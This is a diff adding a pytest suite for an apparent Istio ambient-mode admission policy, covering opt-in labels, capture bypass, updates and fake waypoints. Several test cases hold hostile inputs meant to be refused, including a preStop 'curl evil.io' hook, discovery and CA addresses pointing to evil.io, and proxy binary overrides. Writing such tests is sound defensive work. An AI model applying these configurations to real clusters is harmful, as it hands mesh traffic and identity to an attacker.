@@ -1,0 +1,176 @@
+"""Ambient mode, as far as the fixtures don't say it: opt-in, intent, updates, ingress, gateways."""
+
+import itertools
+from typing import Any
+
+import pytest
+
+from tests.fixtures.meshes import istio
+from tests.fixtures.meshes.ambient import BYPASS, KEY, MODE, REDIRECTION, app
+from tests.fixtures.meshes.istio import STATUS, gateway, waypoint
+from tests.fixtures.meshes.linkerd import APP, Change, annotation, changed, drop, label, put
+from tests.unit.policy import strategies
+from tests.unit.policy.judge import Json, broken, judge, patch_for, settings
+
+OVERRIDE = settings(optOut="override")
+OPT_IN = [{"op": "add", "path": "/metadata/labels/istio.io~1dataplane-mode", "value": "ambient"}]
+
+
+def found(pod: Json, **more: Any) -> list[str]:
+    return broken(judge(pod, by="ambient", **more))
+
+
+def deployment(pod: Json) -> Json:
+    template = {key: pod[key] for key in ("metadata", "spec")}
+    return strategies.workload("Deployment", template)
+
+
+def marked(value: str | None) -> Json:
+    return changed(app(), drop(KEY) if value is None else label(MODE, value))
+
+
+@pytest.mark.parametrize(
+    ("value", "patch", "overridden"),
+    [
+        (None, OPT_IN, OPT_IN),
+        ("ambient", [], []),
+        ("none", [], OPT_IN),
+        ("", OPT_IN, OPT_IN),
+        ("Ambient", OPT_IN, OPT_IN),
+        ("sidecar", OPT_IN, OPT_IN),
+    ],
+)
+def test_the_label_is_added_unless_the_author_says_no(
+    value: str | None, patch: list[Json], overridden: list[Json]
+) -> None:
+    assert patch_for(marked(value), by="ambient") == patch
+    assert patch_for(marked(value), by="ambient", given=OVERRIDE) == overridden
+
+
+def test_a_pod_that_must_end_needs_nothing_more() -> None:
+    task = changed(marked(None), put("/spec/restartPolicy", "Never"))
+    assert patch_for(task, by="ambient") == OPT_IN
+
+
+@pytest.mark.parametrize(
+    ("value", "stored", "template"),
+    [
+        ("ambient", [], []),
+        (None, ["proxy-missing"], []),
+        ("none", ["opted-out"], ["opted-out"]),
+        ("Ambient", ["opted-out"], []),
+        ("", ["opted-out"], []),
+    ],
+)
+def test_only_the_label_s_own_value_enrols(
+    value: str | None, stored: list[str], template: list[str]
+) -> None:
+    assert found(marked(value)) == stored
+    assert found(deployment(marked(value))) == template
+    assert found(deployment(marked(value)), given=OVERRIDE) == []
+
+
+@pytest.mark.parametrize(
+    ("value", "bypasses"),
+    [
+        ("true", True), ("True", True), ("TRUE", True), ("t", True), ("T", True), ("1", True),
+        ("false", False), ("False", False), ("0", False), ("", False), ("yes", False),
+        ("on", False), (" true", False), ("true ", False), ("2", False),
+    ],
+)  # fmt: skip
+def test_the_switch_for_inbound_capture_is_read_as_go_reads_it(value: str, bypasses: bool) -> None:
+    pod = changed(app(), annotation(BYPASS, value))
+    assert found(pod) == (["capture-bypassed"] if bypasses else [])
+    assert found(deployment(pod)) == (["capture-bypassed"] if bypasses else [])
+
+
+def test_an_ingress_controller_takes_in_clients_that_are_not_of_the_mesh() -> None:
+    pod = changed(app(), annotation(BYPASS, "true"))
+    assert found(pod, ingress=True) == []
+    assert found(deployment(pod), ingress=True) == []
+    rerouted = changed(app(), annotation("istio.io/reroute-virtual-interfaces", "eth0"))
+    assert found(rerouted, ingress=True) == ["capture-bypassed"]
+
+
+@pytest.mark.parametrize(
+    ("change", "check"),
+    [
+        (label(MODE, "none"), "mesh-label-removed"),
+        (label(MODE, "Ambient"), "mesh-label-removed"),
+        (drop(KEY), "mesh-label-removed"),
+        (annotation(STATUS, ""), "status-forged"),
+        (annotation(BYPASS, "1"), "capture-bypassed"),
+        (annotation("istio.io/reroute-virtual-interfaces", "eth0"), "capture-bypassed"),
+        (label("sidecar.istio.io/inject", "true"), "foreign-mesh"),
+    ],
+)
+def test_what_an_update_makes_worse_is_refused(change: Change, check: str) -> None:
+    assert check in found(changed(app(), change), old=app())
+
+
+def test_what_the_cni_agent_writes_is_its_own_affair() -> None:
+    enrolled = changed(app(), annotation(REDIRECTION, "enabled"))
+    for before, after in itertools.permutations((app(), enrolled)):
+        verdict = judge(after, before, by="ambient")
+        assert verdict.outcome == "admitted"
+    status = judge(enrolled, app(), by="ambient", subresource="status")
+    assert status.allowed
+    assert found(enrolled) == ["status-forged"]
+    assert found(enrolled, stored=True) == []
+
+
+def test_a_pod_that_never_was_in_may_lose_a_finalizer() -> None:
+    outside = marked("none")
+    touched = changed(outside, label("touched", "yes"))
+    assert judge(touched, outside, by="ambient").outcome == "admitted"
+
+
+@pytest.mark.parametrize("pod", [gateway(), waypoint()], ids=["gateway", "waypoint"])
+def test_the_mesh_s_own_pods_are_left_alone(pod: Json) -> None:
+    assert patch_for(pod, by="ambient") == []
+    assert judge(pod, by="ambient").outcome == "admitted"
+    assert judge(deployment(pod), by="ambient").outcome == "admitted"
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        [put(APP + "/image", "evil.io/istio/proxyv2:1")],
+        [put(APP + "/command", ["sleep", "infinity"])],
+        [put(APP + "/args", ["proxy", "sidecar"])],
+        [put(APP + "/args", ["proxy", "waypoint", "--templateFile=/extra/x"])],
+        [put(APP + "/workingDir", "/extra")],
+        [put(APP + "/envFrom", [{"configMapRef": {"name": "shop"}}])],
+        [put(APP + "/env/-", {"name": "ISTIO_BOOTSTRAP", "value": "/extra/x"})],
+        [put(APP + "/env/-", {"name": "CA_ADDR", "value": "evil.io:15012"})],
+        [annotation("proxy.istio.io/config", "binaryPath: /extra/envoy")],
+        [annotation("proxy.istio.io/config", "discoveryAddress: evil.io:15012")],
+        [annotation("sidecar.istio.io/discoveryAddress", "evil.io:15012")],
+        [annotation("sidecar.istio.io/bootstrapOverride", "shop")],
+        [put(APP + "/lifecycle", {"preStop": {"exec": {"command": ["curl", "evil.io"]}}})],
+        [put("/spec/volumes/0", {"name": "workload-socket", "hostPath": {"path": "/run"}})],
+        [put("/spec/volumes/-", {"name": "extra", "emptyDir": {}}),
+         put(APP + "/volumeMounts/-", {"name": "extra", "mountPath": "/var/lib/istio/envoy"})],
+        [put("/spec/containers/-", {"name": "shop", "image": "shop:1",
+                                    "securityContext": istio.QUIET})],
+        [put("/spec/initContainers", [istio.PREPARE])],
+    ],
+)  # fmt: skip
+def test_what_only_looks_like_a_waypoint_is_refused(changes: list[Change]) -> None:
+    pod = changed(waypoint(), *changes)
+    assert "opted-out" in found(pod)
+    assert found(pod, given=OVERRIDE) == found(pod)
+    assert found(pod, old=waypoint())
+
+
+def test_a_waypoint_on_the_node_s_network_is_none() -> None:
+    assert "host-network" in found(changed(waypoint(), put("/spec/hostNetwork", True)))
+
+
+def test_ephemeral_containers_are_judged_like_others() -> None:
+    debugger = {"name": "debugger", "image": "busybox:1"}
+    for rights, checks in (([], []), (["NET_RAW"], ["capture-capability"])):
+        context = {"runAsNonRoot": True, "capabilities": {"add": rights}}
+        added = put("/spec/ephemeralContainers", [{**debugger, "securityContext": context}])
+        after = changed(app(), added)
+        assert found(after, old=app(), subresource="ephemeralcontainers") == checks
